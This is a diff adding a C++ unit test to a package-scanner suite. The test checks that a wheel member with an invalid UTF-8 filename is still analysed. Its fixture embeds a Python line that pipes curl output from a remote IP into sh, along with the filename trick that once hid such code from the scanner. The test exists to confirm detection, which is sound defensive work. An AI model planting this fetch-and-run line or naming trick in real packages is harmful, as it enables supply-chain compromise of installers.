@@ -69,6 +69,25 @@ TEST_F(ScannerTest, ModuleNamedOutsideAsciiIsAnalysed) {
   for (const Finding& f : r.findings) EXPECT_EQ(f.file, evil) << f.rule;
 }
 
+TEST_F(ScannerTest, ZipNameFlaggedUtf8ButInvalidIsStillAnalysed) {
+  // libarchive gives such a member no name: it was read as a nameless file
+  // and its code never reached the Python checks.
+  std::string whl = testing::MakeRawZip(
+      {File("pkg/__init__.py", "from . import m\n"),
+       File("pkg/\xff.py", "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+       File("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")},
+      {}, /*utf8_names=*/true);
+  Scanner full(&testing::Rules(), {});
+  ScanResult r = full.ScanBytes("pkg-1.0-py3-none-any.whl", "pkg-1.0-py3-none-any.whl", whl);
+  auto on = [&](const std::string& rule) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.rule == rule && f.file == "pkg/\\xff.py";
+    });
+  };
+  EXPECT_TRUE(on("download-exec"));
+  EXPECT_TRUE(on("archive-invalid-name"));
+}
+
 TEST_F(ScannerTest, WheelPosingAsATarball) {
   std::string whl = testing::MakeZip({File("ok/__init__.py", "")});
   ScanResult r = scanner_.ScanBytes("ok-1.0.tar.gz", "ok-1.0.tar.gz", whl);
